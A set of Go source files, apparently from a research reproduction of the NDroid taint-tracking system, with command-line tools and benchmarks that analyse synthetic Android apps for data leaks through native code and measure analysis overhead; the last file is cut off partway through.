// engine against the per-instruction interpreter on the Java CF-Bench rows
// (ablation E11). The reported ops/s metric comes from the workloads' own
// timed sections; system build and install are excluded.
func BenchmarkJavaTranslateOnOff(b *testing.B) {
	for _, name := range []string{"Java MIPS", "Java MSFLOPS"} {
		var w cfbench.Workload
		for _, cand := range cfbench.Workloads() {
			if cand.Name == name {
				w = cand
			}
		}
		for _, mode := range []core.Mode{core.ModeVanilla, core.ModeNDroid} {
			for _, translated := range []bool{true, false} {
				label := "/translated"
				measure := cfbench.Measure
				if !translated {
					label = "/interpreted"
					measure = cfbench.MeasureNoJavaTranslate
				}
				b.Run(sanitize(w.Name)+"/"+mode.String()+label, func(b *testing.B) {
					best := 0.0
					for i := 0; i < b.N; i++ {
						s, _, err := measure(w, mode, 4)
						if err != nil {
							b.Fatal(err)
						}
						if s > best {
							best = s
						}
					}
					b.ReportMetric(best, "ops/s")
				})
			}
		}
	}
}
