// Command ndroid runs one of the synthetic evaluation apps under a chosen
// analysis mode and prints the flow log, detected leaks, and the kernel's
// ground-truth network/filesystem activity — the §VI case-study experience
// (Figs. 6-9) on the command line.
//
// Usage:
//
//	ndroid -list
//	ndroid -app qqphonebook [-mode ndroid|taintdroid|vanilla|droidscope] [-quiet]
//	ndroid -app case1 -static pin
//	ndroid -app summix -summaries validated   # auto-generated native taint summaries
//	ndroid -all
//	ndroid -serve [-cache DIR] [-workers N]     # app names on stdin, JSON lines out
//	ndroid -serve -serve-dir submissions/       # app names from files in a directory
package main

import (
	"bufio"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"repro/internal/apps"
	"repro/internal/cas"
	"repro/internal/core"
	"repro/internal/service"
	"repro/internal/static"
)

func main() {
	var (
		appName   = flag.String("app", "", "app to analyze (see -list)")
		mode      = flag.String("mode", "ndroid", "analysis mode: vanilla, taintdroid, ndroid, droidscope")
		staticLvl = flag.String("static", "off", "static pre-analysis: off, lint (diagnose), pin (apply pins)")
		summaries = flag.String("summaries", "off", "native taint summaries: off, static, or validated")
		list      = flag.Bool("list", false, "list available apps")
		all       = flag.Bool("all", false, "run the full Table I detection matrix")
		quiet     = flag.Bool("quiet", false, "suppress the flow log")
		serve     = flag.Bool("serve", false, "run as an analysis service: read app-name submissions and stream JSON verdicts")
		serveDir  = flag.String("serve-dir", "", "read submissions from the files in this directory instead of stdin")
		cacheDir  = flag.String("cache", "", "persistent artifact/verdict store for -serve (default: none)")
		workers   = flag.Int("workers", 2, "shard workers for -serve")
	)
	flag.Parse()

	level, err := static.ParseLevel(*staticLvl)
	if err != nil {
		fmt.Fprintln(os.Stderr, "ndroid:", err)
		os.Exit(2)
	}
	staticLevel = level

	sumMode, err := core.ParseSummaryMode(*summaries)
	if err != nil {
		fmt.Fprintln(os.Stderr, "ndroid:", err)
		os.Exit(2)
	}
	summaryMode = sumMode

	if *list {
		for _, a := range apps.Registry() {
			fmt.Printf("%-14s case %-7s %s\n", a.Name, a.Case, a.Desc)
		}
		return
	}
	if *serve {
		if err := runServe(*serveDir, *cacheDir, *workers, parseMode(*mode), level); err != nil {
			fmt.Fprintln(os.Stderr, "ndroid:", err)
			os.Exit(1)
		}
		return
	}
	if *all {
		if err := runMatrix(); err != nil {
			fmt.Fprintln(os.Stderr, "ndroid:", err)
			os.Exit(1)
		}
		return
	}
	if *appName == "" {
		flag.Usage()
		os.Exit(2)
	}
	if err := runOne(*appName, parseMode(*mode), !*quiet); err != nil {
		fmt.Fprintln(os.Stderr, "ndroid:", err)
		os.Exit(1)
	}
}

func parseMode(s string) core.Mode {
	switch s {
	case "vanilla":
		return core.ModeVanilla
	case "taintdroid":
		return core.ModeTaintDroid
	case "droidscope":
		return core.ModeDroidScope
	default:
		return core.ModeNDroid
	}
}

// runServe runs the analysis-as-a-service mode: submissions are registry app
// names, one per line, read from stdin or (with dir set) from every file in a
// directory in sorted order. One JSON verdict line streams to stdout as each
// submission completes; a summary of the pipeline's work goes to stderr.
func runServe(dir, cacheDir string, workers int, mode core.Mode, level static.Level) error {
	var store *cas.Store
	if cacheDir != "" {
		var err error
		if store, err = cas.Open(cacheDir); err != nil {
			return err
		}
	}
	svc, err := service.New(service.Options{
		Workers: workers,
		Cache:   store,
		Out:     os.Stdout,
		Analyze: core.AnalyzeOptions{Mode: mode, FlowLog: true, Static: level, Summaries: summaryMode},
	})
	if err != nil {
		return err
	}
	names, err := serveSubmissions(dir)
	if err != nil {
		return err
	}
	var pending []<-chan service.Result
	for _, name := range names {
		app, ok := apps.ByName(name)
		if !ok {
			fmt.Fprintf(os.Stderr, "ndroid: skipping unknown app %q\n", name)
			continue
		}
		pending = append(pending, svc.Submit(app.Spec()))
	}
	for _, ch := range pending {
		if res := <-ch; res.Err != nil {
			fmt.Fprintf(os.Stderr, "ndroid: %s: %v\n", res.Name, res.Err)
		}
	}
	svc.Close()
	st := svc.Stats()
	fmt.Fprintf(os.Stderr, "ndroid: served %d submissions: %d computed, %d from verdict cache, %d deduped\n",
		st.Submitted, st.Computed, st.VerdictHits, st.Deduped)
	if store != nil {
		cs := store.Stats()
		fmt.Fprintf(os.Stderr, "ndroid: store %s: %d hits, %d misses, %d puts, %d corrupt, %d evicted\n",
			store.Dir(), cs.Hits, cs.Misses, cs.Puts, cs.Corrupt, cs.Evictions)
	}
	return nil
}

// serveSubmissions collects submission names: one per line from every file in
// dir (sorted), or from stdin when dir is empty. Blank lines and #-comments
// are skipped.
func serveSubmissions(dir string) ([]string, error) {
	var readers []*bufio.Scanner
	if dir == "" {
		readers = append(readers, bufio.NewScanner(os.Stdin))
	} else {
		entries, err := os.ReadDir(dir)
		if err != nil {
			return nil, err
		}
		var paths []string
		for _, e := range entries {
			if !e.IsDir() {
				paths = append(paths, filepath.Join(dir, e.Name()))
			}
		}
		sort.Strings(paths)
		for _, p := range paths {
			data, err := os.ReadFile(p)
			if err != nil {
				return nil, err
			}
			readers = append(readers, bufio.NewScanner(strings.NewReader(string(data))))
		}
	}
	var names []string
	for _, sc := range readers {
		for sc.Scan() {
			line := strings.TrimSpace(sc.Text())
			if line == "" || strings.HasPrefix(line, "#") {
				continue
			}
			names = append(names, line)
		}
		if err := sc.Err(); err != nil {
			return nil, err
		}
	}
	return names, nil
}

// staticLevel is the -static flag, applied by analyze to every run.
var staticLevel static.Level

// summaryMode is the -summaries flag, applied by analyze to every run.
var summaryMode core.SummaryMode

func analyze(name string, mode core.Mode, logging bool) (*core.Analyzer, *apps.App, error) {
	app, ok := apps.ByName(name)
	if !ok {
		return nil, nil, fmt.Errorf("unknown app %q (try -list)", name)
	}
	sys, err := core.NewSystem()
	if err != nil {
		return nil, nil, err
	}
	if err := app.Install(sys); err != nil {
		return nil, nil, err
	}
	a := core.NewAnalyzer(sys, mode)
	a.Log.Enabled = logging
	if summaryMode != core.SummaryOff {
		a.EnableSummaries(summaryMode, nil)
	}
	if staticLevel != static.Off {
		r := static.Analyze(sys.VM, app.EntryClass, app.EntryMethod)
		fmt.Println("--", r.Summary())
		for _, f := range r.Findings {
			fmt.Println("   lint:", f)
		}
		if staticLevel == static.PinLevel {
			r.Apply(sys.VM)
		}
	}
	if err := app.Run(sys); err != nil {
		return nil, nil, err
	}
	return a, app, nil
}

func runOne(name string, mode core.Mode, logging bool) error {
	a, app, err := analyze(name, mode, logging)
	if err != nil {
		return err
	}
	fmt.Printf("== %s (case %s) under %s ==\n", app.Name, app.Case, a.Mode)
	if logging && len(a.Log.Lines) > 0 {
		fmt.Println("\n-- flow log --")
		fmt.Println(a.Log.String())
	}
	if m := a.Surface.Map(); m != nil {
		fmt.Println("\n-- JNI surface map --")
		fmt.Print(m.String())
	}
	if summaryMode != core.SummaryOff {
		fmt.Println("\n-- native taint summaries --")
		report := a.SummaryReport()
		if len(report) == 0 {
			fmt.Println("  (no summarizable libraries)")
		}
		for _, lr := range report {
			fmt.Println(" ", lr)
		}
		if a.SummariesVoided > 0 {
			fmt.Printf("  RegisterNatives churn voided %d summaries\n", a.SummariesVoided)
		}
		for _, rej := range a.SummaryRejections {
			fmt.Println(" ", rej)
		}
		fmt.Printf("  crossings served by a summary: %d\n", a.SummaryApplied)
	}
	fmt.Println("\n-- leaks --")
	if len(a.Leaks) == 0 {
		fmt.Println("(none detected)")
	}
	for _, l := range a.Leaks {
		fmt.Println(" ", l)
	}
	fmt.Println("\n-- ground truth: network --")
	for _, m := range a.Sys.Kern.Net.Log {
		fmt.Printf("  -> %-28s %q\n", m.Dest, string(m.Data))
	}
	fmt.Println("\n-- ground truth: filesystem --")
	for _, p := range a.Sys.Kern.FS.Paths() {
		data, _ := a.Sys.Kern.FS.ReadFile(p)
		if len(data) > 0 {
			fmt.Printf("  %-28s %d bytes\n", p, len(data))
		}
	}
	return nil
}

func runMatrix() error {
	fmt.Printf("%-14s %-7s %-22s %10s %10s\n", "app", "case", "expected sink", "taintdroid", "ndroid")
	for _, app := range apps.Registry() {
		var row [2]bool
		for i, mode := range []core.Mode{core.ModeTaintDroid, core.ModeNDroid} {
			a, _, err := analyze(app.Name, mode, false)
			if err != nil {
				return err
			}
			row[i] = app.ExpectTag != 0 && a.Detected(app.ExpectTag)
		}
		mark := func(b bool) string {
			if b {
				return "detected"
			}
			return "-"
		}
		fmt.Printf("%-14s %-7s %-22s %10s %10s\n",
			app.Name, app.Case, app.ExpectSink, mark(row[0]), mark(row[1]))
	}
	return nil
}
