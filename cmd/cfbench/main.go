// Command cfbench reproduces the paper's Fig. 10: it runs the CF-Bench-style
// workload suite under the analysis modes and prints the per-row overhead
// table (vanilla score plus the slowdown factor of each instrumented mode).
//
// Usage:
//
//	cfbench                       # full-size run, all four modes
//	cfbench -scale 10             # quick run
//	cfbench -repeats 3            # best-of-3 per cell
//	cfbench -json BENCH_fig10.json # also write machine-readable results
package main

import (
	"flag"
	"fmt"
	"os"

	"repro/internal/cfbench"
	"repro/internal/core"
)

func main() {
	scale := flag.Int("scale", 1, "divide workload sizes by this factor")
	repeats := flag.Int("repeats", 3, "measurements per cell (best kept)")
	jsonPath := flag.String("json", "", "write results as JSON to this file (e.g. BENCH_fig10.json)")
	flag.Parse()

	modes := []core.Mode{core.ModeVanilla, core.ModeTaintDroid, core.ModeNDroid, core.ModeDroidScope}
	res, err := cfbench.Run(modes, *scale, *repeats)
	if err != nil {
		fmt.Fprintln(os.Stderr, "cfbench:", err)
		os.Exit(1)
	}
	fmt.Println(res.Report())
	if *jsonPath != "" {
		data, err := res.JSON()
		if err != nil {
			fmt.Fprintln(os.Stderr, "cfbench: marshal:", err)
			os.Exit(1)
		}
		if err := os.WriteFile(*jsonPath, append(data, '\n'), 0o644); err != nil {
			fmt.Fprintln(os.Stderr, "cfbench: write:", err)
			os.Exit(1)
		}
		fmt.Println("wrote", *jsonPath)
	}
	fmt.Println("Paper reference (Fig. 10): NDroid overall 5.45x vs vanilla; DroidScope >= 11x.")
	fmt.Println("Absolute factors compress on this substrate (interpreter baseline vs QEMU-")
	fmt.Println("translated code); the orderings are the reproduced result — see EXPERIMENTS.md.")
}
