// Command cfbench reproduces the paper's Fig. 10: it runs the CF-Bench-style
// workload suite under the analysis modes and prints the per-row overhead
// table (vanilla score plus the slowdown factor of each instrumented mode).
//
// Usage:
//
//	cfbench                       # full-size run, all four modes
//	cfbench -scale 10             # quick run
//	cfbench -repeats 3            # best-of-3 per cell
//	cfbench -json BENCH_fig10.json # also write machine-readable results
//	cfbench -java-ablation        # Java rows, translation engine on vs off
//	cfbench -snapshot both        # fresh vs fork-server throughput ablation
//	cfbench -snapshot on          # snapshot arm only (off: fresh arm only)
//	cfbench -fuse both            # trace-fusion crossing ablation, both arms
//	cfbench -fuse on              # fused arm only (off: unfused arm only)
//	cfbench -cache both           # service cache ablation: uncached + cold/warm/sharedlib
//	cfbench -cache on             # cached arms only (off: uncached arm only)
//	cfbench -cache-dir DIR        # persist the ablation store instead of a temp dir
//	cfbench -surface both         # JNI surface-observer ablation + RASP flood leg
//	cfbench -surface on           # observed arm only (off: unobserved arm only)
//	cfbench -summaries sweep      # native taint-summary ablation (off/static/validated)
package main

import (
	"flag"
	"fmt"
	"os"

	"repro/internal/cfbench"
	"repro/internal/core"
)

func main() {
	scale := flag.Int("scale", 1, "divide workload sizes by this factor")
	repeats := flag.Int("repeats", 3, "measurements per cell (best kept)")
	jsonPath := flag.String("json", "", "write results as JSON to this file (e.g. BENCH_fig10.json)")
	javaAblation := flag.Bool("java-ablation", false, "run only the Java rows, translation engine on vs off")
	snapshot := flag.String("snapshot", "both", "throughput ablation arms: both, on, off, or none")
	snapRounds := flag.Int("snapshot-rounds", 3, "corpus sweeps per throughput arm")
	fuse := flag.String("fuse", "both", "trace-fusion ablation arms: both, on, off, or none")
	cache := flag.String("cache", "both", "service cache ablation arms: both, on, off, or none")
	cacheDir := flag.String("cache-dir", "", "artifact store directory for -cache (default: a temp dir)")
	surfaceArms := flag.String("surface", "both", "JNI surface-observer ablation arms: both, on, off, or none")
	summaries := flag.String("summaries", "sweep", "native taint-summary ablation (runs off/static/validated arms): sweep or none")
	flag.Parse()

	if *javaAblation {
		runJavaAblation(*scale, *repeats)
		return
	}

	modes := []core.Mode{core.ModeVanilla, core.ModeTaintDroid, core.ModeNDroid, core.ModeDroidScope}
	res, err := cfbench.Run(modes, *scale, *repeats)
	if err != nil {
		fmt.Fprintln(os.Stderr, "cfbench:", err)
		os.Exit(1)
	}
	fmt.Println(res.Report())
	res.Verdicts = cfbench.VerdictSweep(0)
	fmt.Println("Contained corpus sweep:", res.Verdicts)
	pins, err := cfbench.PinSweep(0)
	if err != nil {
		fmt.Fprintln(os.Stderr, "cfbench: pin sweep:", err)
		os.Exit(1)
	}
	res.Pins = pins
	fmt.Println("Static pin precision:")
	fmt.Println(cfbench.PinReport(pins))
	parityFailed := false
	if *snapshot != "none" {
		withFresh := *snapshot == "both" || *snapshot == "off"
		withSnap := *snapshot == "both" || *snapshot == "on"
		if !withFresh && !withSnap {
			fmt.Fprintf(os.Stderr, "cfbench: bad -snapshot value %q (both, on, off, none)\n", *snapshot)
			os.Exit(2)
		}
		tp, err := cfbench.ThroughputSweep(0, *snapRounds, withFresh, withSnap)
		if err != nil {
			fmt.Fprintln(os.Stderr, "cfbench:", err)
			os.Exit(1)
		}
		res.Throughput = tp
		fmt.Println("Corpus throughput (snapshot ablation):")
		fmt.Println(tp.String())
		parityFailed = !tp.ParityOK
	}
	if *fuse != "none" {
		withOn := *fuse == "both" || *fuse == "on"
		withOff := *fuse == "both" || *fuse == "off"
		if !withOn && !withOff {
			fmt.Fprintf(os.Stderr, "cfbench: bad -fuse value %q (both, on, off, none)\n", *fuse)
			os.Exit(2)
		}
		fs, err := cfbench.FuseSweep(0, withOn, withOff)
		if err != nil {
			fmt.Fprintln(os.Stderr, "cfbench:", err)
			os.Exit(1)
		}
		res.Fuse = fs
		fmt.Println("Crossing ablation (trace fusion):")
		fmt.Println(fs.String())
		if !fs.ParityOK {
			parityFailed = true
			fmt.Fprintln(os.Stderr, "cfbench: fused/unfused parity mismatch:", fs.ParityDetail)
		}
	}
	if *cache != "none" {
		withOff := *cache == "both" || *cache == "off"
		withOn := *cache == "both" || *cache == "on"
		if !withOff && !withOn {
			fmt.Fprintf(os.Stderr, "cfbench: bad -cache value %q (both, on, off, none)\n", *cache)
			os.Exit(2)
		}
		cs, err := cfbench.CacheSweep(0, withOff, withOn, *cacheDir)
		if err != nil {
			fmt.Fprintln(os.Stderr, "cfbench:", err)
			os.Exit(1)
		}
		res.Cache = cs
		fmt.Println("Cache ablation (analysis service):")
		fmt.Println(cs.String())
		if !cs.ParityOK {
			parityFailed = true
			fmt.Fprintln(os.Stderr, "cfbench: cache-regime parity mismatch:", cs.ParityDetail)
		}
	}
	if *surfaceArms != "none" {
		withOn := *surfaceArms == "both" || *surfaceArms == "on"
		withOff := *surfaceArms == "both" || *surfaceArms == "off"
		if !withOn && !withOff {
			fmt.Fprintf(os.Stderr, "cfbench: bad -surface value %q (both, on, off, none)\n", *surfaceArms)
			os.Exit(2)
		}
		ss, err := cfbench.SurfaceSweep(0, withOn, withOff)
		if err != nil {
			fmt.Fprintln(os.Stderr, "cfbench:", err)
			os.Exit(1)
		}
		res.Surface = ss
		fmt.Println("JNI surface-observer ablation:")
		fmt.Println(ss.String())
		if !ss.ParityOK {
			parityFailed = true
			fmt.Fprintln(os.Stderr, "cfbench: surface observer parity mismatch:", ss.ParityDetail)
		}
	}
	if *summaries != "none" {
		if *summaries != "sweep" {
			fmt.Fprintf(os.Stderr, "cfbench: bad -summaries value %q (sweep or none)\n", *summaries)
			os.Exit(2)
		}
		sm, err := cfbench.SummarySweep(0)
		if err != nil {
			fmt.Fprintln(os.Stderr, "cfbench:", err)
			os.Exit(1)
		}
		res.Summary = sm
		fmt.Println("Native taint-summary ablation:")
		fmt.Println(sm.String())
		if !sm.ParityOK {
			parityFailed = true
			fmt.Fprintln(os.Stderr, "cfbench: summary ablation parity mismatch:", sm.ParityDetail)
		}
	}
	if *jsonPath != "" {
		data, err := res.JSON()
		if err != nil {
			fmt.Fprintln(os.Stderr, "cfbench: marshal:", err)
			os.Exit(1)
		}
		if err := os.WriteFile(*jsonPath, append(data, '\n'), 0o644); err != nil {
			fmt.Fprintln(os.Stderr, "cfbench: write:", err)
			os.Exit(1)
		}
		fmt.Println("wrote", *jsonPath)
	}
	fmt.Println("Paper reference (Fig. 10): NDroid overall 5.45x vs vanilla; DroidScope >= 11x.")
	fmt.Println("Absolute factors compress on this substrate (interpreter baseline vs QEMU-")
	fmt.Println("translated code); the orderings are the reproduced result — see EXPERIMENTS.md.")
	if parityFailed {
		if res.Throughput != nil && !res.Throughput.ParityOK {
			fmt.Fprintln(os.Stderr, "cfbench: snapshot/fresh parity mismatch:", res.Throughput.ParityDetail)
		}
		if res.Fuse != nil && !res.Fuse.ParityOK {
			fmt.Fprintln(os.Stderr, "cfbench: fused/unfused parity mismatch:", res.Fuse.ParityDetail)
		}
		if res.Cache != nil && !res.Cache.ParityOK {
			fmt.Fprintln(os.Stderr, "cfbench: cache-regime parity mismatch:", res.Cache.ParityDetail)
		}
		if res.Surface != nil && !res.Surface.ParityOK {
			fmt.Fprintln(os.Stderr, "cfbench: surface observer parity mismatch:", res.Surface.ParityDetail)
		}
		if res.Summary != nil && !res.Summary.ParityOK {
			fmt.Fprintln(os.Stderr, "cfbench: summary ablation parity mismatch:", res.Summary.ParityDetail)
		}
		os.Exit(1)
	}
}

// runJavaAblation measures every Java row under vanilla and NDroid with the
// DVM translation engine enabled versus disabled, reporting the speedup the
// method-granular translator delivers over the per-instruction interpreter.
func runJavaAblation(scale, repeats int) {
	if scale < 1 {
		scale = 1
	}
	if repeats < 1 {
		repeats = 1
	}
	best := func(f func() (float64, cfbench.GateStats, error)) (float64, cfbench.GateStats) {
		top, topGS := 0.0, cfbench.GateStats{}
		for r := 0; r < repeats; r++ {
			s, gs, err := f()
			if err != nil {
				fmt.Fprintln(os.Stderr, "cfbench:", err)
				os.Exit(1)
			}
			if s > top {
				top, topGS = s, gs
			}
		}
		return top, topGS
	}
	fmt.Printf("%-20s %-10s %15s %15s %8s\n", "Java row", "mode", "translated", "interpreted", "speedup")
	for _, mode := range []core.Mode{core.ModeVanilla, core.ModeNDroid} {
		for _, w := range cfbench.Workloads() {
			if !w.Java {
				continue
			}
			w := w
			on, gs := best(func() (float64, cfbench.GateStats, error) { return cfbench.Measure(w, mode, scale) })
			off, _ := best(func() (float64, cfbench.GateStats, error) { return cfbench.MeasureNoJavaTranslate(w, mode, scale) })
			speed := 0.0
			if off > 0 {
				speed = on / off
			}
			fmt.Printf("%-20s %-10s %15.0f %15.0f %7.2fx  (%d methods, %d clean, %d taint frames)\n",
				w.Name, mode, on, off, speed, gs.JavaTransMethods, gs.JavaCleanFrames, gs.JavaTaintFrames)
		}
	}
}
