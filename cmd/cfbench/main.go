// Command cfbench reproduces the paper's Fig. 10: it runs the CF-Bench-style
// workload suite under the analysis modes and prints the per-row overhead
// table (vanilla score plus the slowdown factor of each instrumented mode).
//
// Usage:
//
//	cfbench                 # full-size run, all four modes
//	cfbench -scale 10       # quick run
//	cfbench -repeats 3      # best-of-3 per cell
package main

import (
	"flag"
	"fmt"
	"os"

	"repro/internal/cfbench"
	"repro/internal/core"
)

func main() {
	scale := flag.Int("scale", 1, "divide workload sizes by this factor")
	repeats := flag.Int("repeats", 3, "measurements per cell (best kept)")
	flag.Parse()

	modes := []core.Mode{core.ModeVanilla, core.ModeTaintDroid, core.ModeNDroid, core.ModeDroidScope}
	res, err := cfbench.Run(modes, *scale, *repeats)
	if err != nil {
		fmt.Fprintln(os.Stderr, "cfbench:", err)
		os.Exit(1)
	}
	fmt.Println(res.Report())
	fmt.Println("Paper reference (Fig. 10): NDroid overall 5.45x vs vanilla; DroidScope >= 11x.")
	fmt.Println("Absolute factors compress on this substrate (interpreter baseline vs QEMU-")
	fmt.Println("translated code); the orderings are the reproduced result — see EXPERIMENTS.md.")
}
