// Command marketstudy reproduces the paper's Section III large-scale study:
// it generates the synthetic 227,911-app market, runs the static analyzer
// over every app, and prints the Type I/II/III statistics, the Fig. 2
// category distribution, and the library-popularity inventory.
//
// It then runs the dynamic corpus — the Table I evaluation apps plus the
// hostile robustness apps — under full fault containment: every app gets a
// fresh System per attempt, watchdog instruction budgets bound runaway
// guests, and native-side analysis faults degrade one mode down
// (NDroid -> TaintDroid -> vanilla) with the chain recorded. A hostile app
// ends as a per-app Fault or Timeout row, never as a crash of the study.
//
// Usage:
//
//	marketstudy                # full 227,911-app market + dynamic corpus
//	marketstudy -scale 10      # 1/10th-size market, same proportions
//	marketstudy -dynamic=false # static study only
//	marketstudy -budget 1000000 # tighter watchdog budget (instructions)
//	marketstudy -snapshot      # serve the dynamic corpus from per-worker
//	                           # fork servers (boot once, reset in O(dirty))
//	marketstudy -cache DIR     # run the dynamic corpus through the analysis
//	                           # service over a persistent artifact store; a
//	                           # second run replays every verdict
//	marketstudy -surface       # print the per-app JNI surface map table:
//	                           # discovered natives, registration events,
//	                           # dedup-throttled call counts, truncation flags
//	marketstudy -summaries validated
//	                           # analyze with auto-generated native taint
//	                           # summaries (off|static|validated) and print the
//	                           # per-library synthesis table: functions
//	                           # summarized / rejected / left on full tracing
package main

import (
	"flag"
	"fmt"
	"os"
	"runtime"

	"repro/internal/apps"
	"repro/internal/cas"
	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/static"
)

func main() {
	scale := flag.Int("scale", 1, "divide the market size by this factor")
	seed := flag.Int64("seed", 1, "market generator seed")
	workers := flag.Int("workers", runtime.GOMAXPROCS(0), "concurrent classification workers")
	dynamic := flag.Bool("dynamic", true, "run the dynamic corpus under contained analysis")
	budget := flag.Uint64("budget", 0, "watchdog instruction budget per run (0 = default)")
	snapshot := flag.Bool("snapshot", false, "serve dynamic attempts from per-worker snapshot clones")
	cacheDir := flag.String("cache", "", "persistent artifact/verdict store; runs the dynamic corpus through the analysis service")
	surfaceTable := flag.Bool("surface", false, "print the per-app JNI surface map table after the dynamic sweep")
	summaries := flag.String("summaries", "off", "native taint summaries: off, static, or validated")
	flag.Parse()

	sumMode, err := core.ParseSummaryMode(*summaries)
	if err != nil {
		fmt.Fprintln(os.Stderr, "marketstudy:", err)
		os.Exit(2)
	}

	params := corpus.PaperParams()
	if *scale > 1 {
		params = corpus.Scaled(*scale)
	}
	params.Seed = *seed

	fmt.Printf("Generating market (%d apps, seed %d, %d workers)...\n\n",
		params.Total, params.Seed, *workers)
	stats := corpus.AnalyzeParallel(params, *workers)
	fmt.Println(stats.Report())
	fmt.Printf("Paper reference: 227,911 apps, 16.46%% Type I, 4,034 Type I without libs\n")
	fmt.Printf("(48.1%% AdMob), 1,738 Type II (394 loader-capable), 16 Type III (11 game, 5 ent.)\n")

	if !*dynamic {
		return
	}

	fmt.Println("\nStatic JNI lint over the dynamic corpus:")
	fmt.Println()
	printLintTable()

	fmt.Printf("\nDynamic corpus under contained analysis (mode ndroid, budget %d):\n\n",
		effectiveBudget(*budget))
	opts := apps.StudyOptions{Budget: *budget, FlowLog: true, Static: static.PinLevel,
		Snapshot: *snapshot, Summaries: sumMode}
	dynWorkers := 1
	if *snapshot || *cacheDir != "" {
		dynWorkers = *workers
	}
	var rep *apps.StudyReport
	if *cacheDir != "" {
		store, err := cas.Open(*cacheDir)
		if err != nil {
			fmt.Fprintln(os.Stderr, "marketstudy:", err)
			os.Exit(1)
		}
		opts.Cache = store
		svcRep, st, err := apps.RunStudyService(opts, dynWorkers)
		if err != nil {
			fmt.Fprintln(os.Stderr, "marketstudy:", err)
			os.Exit(1)
		}
		rep = svcRep
		fmt.Print(rep.String())
		rs := st.Runner
		fmt.Printf("\nAnalysis service: %d submitted, %d computed, %d verdict-cache hits, %d deduped (%d workers).\n",
			st.Submitted, st.Computed, st.VerdictHits, st.Deduped, dynWorkers)
		fmt.Printf("Artifacts: %d static runs, %d static disk hits, %d assembles, %d asm cache hits, %d dex validations, %d dex-check hits, %d cache faults absorbed.\n",
			rs.StaticRuns, rs.StaticDiskHits, rs.AsmAssembles, rs.AsmCacheHits,
			rs.DexValidations, rs.DexCheckHits, rs.CacheFaults)
		cs := store.Stats()
		fmt.Printf("Store %s: %d hits, %d misses, %d puts, %d corrupt, %d evicted.\n",
			store.Dir(), cs.Hits, cs.Misses, cs.Puts, cs.Corrupt, cs.Evictions)
	} else {
		rep = apps.RunStudyParallel(opts, dynWorkers)
		fmt.Print(rep.String())
	}
	if *snapshot {
		rs := rep.RunnerStats
		perReset := 0.0
		taintPerReset := 0.0
		if rs.Resets > 0 {
			perReset = float64(rs.GuestPagesReset) / float64(rs.Resets)
			taintPerReset = float64(rs.TaintPagesReset) / float64(rs.Resets)
		}
		fmt.Printf("\nFork servers: %d workers, %d boots, %d resets; per-reset cost %.1f guest pages + %.1f taint pages copied.\n",
			rep.Workers, rs.Boots, rs.Resets, perReset, taintPerReset)
	}
	if *surfaceTable {
		fmt.Println("\nJNI surface maps (dynamic observation, dedup + count-bucket throttled):")
		fmt.Println()
		printSurfaceTable(rep)
	}
	if sumMode != core.SummaryOff {
		fmt.Printf("\nNative taint summaries (-summaries=%s, per-library synthesis):\n\n", sumMode)
		printSummaryTable(rep)
	}
	fmt.Println("\nEvery hostile app resolved to a per-app verdict; the study process survived.")
}

// printSurfaceTable renders each app's JNI surface map: every discovered
// native boundary with its registration events, raw vs recorded call counts,
// reflection dispatches, and the truncation flag when the app's event stream
// hit the flood budget.
func printSurfaceTable(rep *apps.StudyReport) {
	fmt.Printf("%-16s %7s %7s %9s %7s %7s %6s\n",
		"app", "natives", "regs", "calls", "events", "dropped", "trunc")
	for _, row := range rep.Rows {
		m := row.Report.Final.Result.Surface
		if m == nil {
			fmt.Printf("%-16s  (no surface map)\n", row.App.Name)
			continue
		}
		var regs uint64
		for _, b := range m.Boundaries {
			regs += b.RegEvents
		}
		trunc := ""
		if m.Truncated {
			trunc = "yes"
		}
		fmt.Printf("%-16s %7d %7d %9d %7d %7d %6s\n",
			row.App.Name, m.UniqueBoundaries, regs, m.Calls, m.Events, m.Dropped, trunc)
		for _, b := range m.Boundaries {
			dyn := ""
			if b.Dynamic {
				dyn = " dynamic"
			}
			fmt.Printf("    %-44s regs=%d calls=%d events=%d reflect=%d%s\n",
				b.Name, b.RegEvents, b.Calls, b.CallEvents, b.ReflectCalls, dyn)
		}
	}
}

// printSummaryTable renders each app's per-library summary synthesis
// outcome: how many native functions got a summary, how many mutation
// validation rejected, how many stayed on full tracing, and how many
// crossings a summary served — plus the eviction and rejection diagnostics.
func printSummaryTable(rep *apps.StudyReport) {
	fmt.Printf("%-16s %-20s %6s %6s %9s %9s %7s %9s\n",
		"app", "lib", "funcs", "sound", "accepted", "rejected", "traced", "applied")
	for _, row := range rep.Rows {
		res := row.Report.Final.Result
		if len(res.Summary) == 0 {
			fmt.Printf("%-16s  (no summarizable libraries)\n", row.App.Name)
			continue
		}
		for _, lr := range res.Summary {
			fmt.Printf("%-16s %-20s %6d %6d %9d %9d %7d %9d\n",
				row.App.Name, lr.Lib, lr.Functions, lr.Sound, lr.Accepted,
				lr.Rejected, lr.Traced, lr.Applied)
		}
		if res.SummariesVoided > 0 {
			fmt.Printf("    RegisterNatives churn voided %d summaries\n", res.SummariesVoided)
		}
		for _, rej := range res.SummaryRejections {
			fmt.Printf("    %s\n", rej)
		}
	}
}

// printLintTable runs the static pre-analysis over every corpus app and
// prints the lint verdict beside the pin-precision numbers — the static
// complement to the dynamic verdict table below it.
func printLintTable() {
	fmt.Printf("%-14s %8s %8s %8s  %s\n", "app", "methods", "pinned", "findings", "lint details")
	for _, app := range apps.AllApps() {
		sys, err := core.NewSystem()
		if err != nil {
			fmt.Printf("%-14s  system boot failed: %v\n", app.Name, err)
			continue
		}
		if err := app.Install(sys); err != nil {
			fmt.Printf("%-14s  install failed: %v\n", app.Name, err)
			continue
		}
		r := static.Analyze(sys.VM, app.EntryClass, app.EntryMethod)
		detail := "clean"
		if len(r.Findings) > 0 {
			detail = r.Findings[0].Detail
			if len(r.Findings) > 1 {
				detail = fmt.Sprintf("%s (+%d more)", detail, len(r.Findings)-1)
			}
		}
		fmt.Printf("%-14s %8d %8d %8d  %s\n",
			app.Name, r.Methods, r.PinnedMethods, len(r.Findings), detail)
	}
}

func effectiveBudget(b uint64) uint64 {
	if b == 0 {
		return core.DefaultBudget
	}
	return b
}
