// Command marketstudy reproduces the paper's Section III large-scale study:
// it generates the synthetic 227,911-app market, runs the static analyzer
// over every app, and prints the Type I/II/III statistics, the Fig. 2
// category distribution, and the library-popularity inventory.
//
// Usage:
//
//	marketstudy            # full 227,911-app market
//	marketstudy -scale 10  # 1/10th-size market, same proportions
package main

import (
	"flag"
	"fmt"
